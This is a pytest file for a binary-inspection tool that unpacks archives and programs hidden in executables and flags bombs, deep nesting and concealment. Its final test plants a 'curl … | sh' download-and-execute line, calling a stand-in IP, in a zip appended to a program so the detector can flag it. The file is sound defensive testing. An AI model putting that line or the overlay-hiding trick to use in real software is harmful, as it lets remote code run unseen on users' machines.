"""What stands inside executables becomes parts, and the executable stays one."""

import bz2
import gzip
import io
import struct
import time
import zipfile
from pathlib import Path

import pytest
import zstandard

from zoll.openers.limits import Limits
from zoll.openers.release import open_release
from zoll.parse.extents import extent
from zoll.pipeline import Settings, inspect
from zoll.sandbox import Limits as Bounds
from zoll.sandbox import Pool
from zoll.store.vault import Vault

MACHINE = Path(__file__).parents[2] / "samples" / "parse" / "machine"
PROGRAM = (MACHINE / "door.x86-64.so").read_bytes()
OTHERS = {
    "door.x86-64.dll": [("pe", "pe")],
    "door.dylib": [("macho", "macho"), ("macho 2", "macho")],  # a universal file: each of its images
    "door.arm.so": [("elf", "elf")],
    "door.ppc64.so": [("elf", "elf")],
}
TEXT = b"#!/bin/sh\necho setup\n"


def zipped(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def squashfs(size=8192):
    head = struct.pack("<4sIIIIHHHHHH", b"hsqs", 1, 0, 4096, 0, 1, 12, 0, 1, 4, 0) + struct.pack("<QQ", 0, size)
    return head.ljust(size, b"q")


def opened(tmp_path, data, name="tool", **limits):
    (tmp_path / name).write_bytes(data)
    with Vault() as vault, Pool(1, Bounds(), vault.scratch, strict=True) as pool:
        return open_release(tmp_path / name, pool, vault, Limits(**limits))


def parts(release):
    return [(part.place.path, part.kind, part.size) for part in release.parts]


def test_an_archive_behind_the_end(tmp_path):
    whole = PROGRAM + zipped(("setup.sh", TEXT), ("lib/door.so", PROGRAM))
    release = opened(tmp_path, whole)
    assert parts(release) == [
        ("tool", "executable/elf", len(whole)),
        ("tool!/overlay/zip", "container/zip", 0),
        ("tool!/overlay/zip!/lib/door.so", "executable/elf", len(PROGRAM)),
        ("tool!/overlay/zip!/setup.sh", "code/shell", len(TEXT)),
    ]
    assert release.gaps == ()


@pytest.mark.parametrize(("name", "kinds"), OTHERS.items())
def test_programs_in_programs_of_every_format(name, kinds, tmp_path):
    inner = (MACHINE / name).read_bytes()
    release = opened(tmp_path, PROGRAM + b"\0" * 7 + inner + gzip.compress(TEXT, mtime=0))
    found = [one for one in parts(release) if one[0] != "tool" and "gzip" not in one[0]]
    assert [one[:2] for one in found] == [(f"tool!/overlay/{place}", f"executable/{kind}") for place, kind in kinds]
    assert sum(one[2] for one in found) <= len(inner) < sum(one[2] for one in found) + 0x8000
    assert ("tool!/overlay/gzip!/gzip", "code/shell", len(TEXT)) in parts(release)


def test_in_a_section_the_section_gives_the_name(tmp_path):
    stream = bz2.compress(b"y" * 50)
    (spot,) = (one.low for one in extent(PROGRAM).spans if one.name == ".text")
    release = opened(tmp_path, PROGRAM[:spot] + stream + PROGRAM[spot + len(stream) :])
    assert [one[:2] for one in parts(release)][1:] == [
        ("tool!/.text/bzip2", "container/bzip2"),
        ("tool!/.text/bzip2!/bzip2", "text/plain"),
    ]


def test_what_has_no_opener_is_a_gap(tmp_path):
    release = opened(tmp_path, PROGRAM + squashfs())
    assert [(gap.at.path, gap.reason, gap.size) for gap in release.gaps] == [
        ("tool!/overlay/squashfs", "unsupported", 8192)
    ]


def test_tables_of_magic_numbers_are_nothing(tmp_path):
    magic = b"\x7fELF\2\1\1\0MZ\x90\0PE\0\0PK\3\4PK\5\6\x1f\x8b\x08\0\xfd7zXZ\0\x28\xb5\x2f\xfdBZh91AY&SYhsqs"
    magic += b"!<arch>\n070701ustar\0007z\xbc\xaf\x27\x1cRar!\x1a\x07\0Rar!\x1a\x07\1\0MSCF\0\0\0\0\xcf\xfa\xed\xfe"
    release = opened(tmp_path, PROGRAM + magic + b"\0" * 600 + magic * 3)
    assert len(release.parts) == 1
    assert release.gaps == ()


def test_a_nest_ends_in_a_gap(tmp_path):
    whole = PROGRAM
    for _ in range(8):
        whole = PROGRAM + zstandard.compress(whole)
    release = opened(tmp_path, whole, depth=4)
    assert {gap.reason for gap in release.gaps} == {"depth"}


def test_a_bomb_ends_in_a_gap(tmp_path):
    start = time.process_time()
    release = opened(tmp_path, PROGRAM + gzip.compress(bytes(1 << 25)), part=1 << 20)
    assert [(gap.reason, gap.at.path) for gap in release.gaps] == [("bytes", "tool!/overlay/gzip!/gzip")]
    assert time.process_time() - start < 10


def test_more_magic_numbers_than_any_program_has_are_a_gap(tmp_path):
    release = opened(tmp_path, PROGRAM + b"PK\3\4" * 30_000)
    assert [(gap.reason, gap.at.path) for gap in release.gaps] == [("parts", "tool")]
    assert parts(release) == [("tool", "executable/elf", len(PROGRAM) + 120_000)]


def test_the_same_inside_is_unchanged_and_silent_and_the_account_adds_up(tmp_path, adds_up):
    held = zipped(("setup.sh", TEXT), ("lib/door.so", PROGRAM))
    other = bytearray(PROGRAM)
    other[-1] ^= 1
    old, new = tmp_path / "old", tmp_path / "new"
    for side, program in ((old, PROGRAM), (new, bytes(other))):
        side.mkdir()
        (side / "tool").write_bytes(program + held)
    report = adds_up(inspect(old, new, Settings(jobs=1, strict=True)))
    assert (report.account.whole.parts, report.account.unchanged.parts) == (3, 2)
    assert not [finding for finding in report.findings if finding.change.pair.place.path != "tool"]


def test_what_is_gained_inside_is_read_as_what_it_is(tmp_path, adds_up):
    old, new = tmp_path / "old", tmp_path / "new"
    door = b"#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n"
    for side, behind in ((old, b""), (new, zipped(("setup.sh", door)))):
        side.mkdir()
        (side / "tool").write_bytes(PROGRAM + behind)
    report = adds_up(inspect(old, new, Settings(jobs=1, strict=True)))
    told = {(finding.change.pair.place.path, one.rule) for finding in report.findings for one in finding.signals}
    assert ("tool", "concealment/overlay") in told
    assert any(path == "tool!/overlay/zip!/setup.sh" and rule.startswith("power/") for path, rule in told)
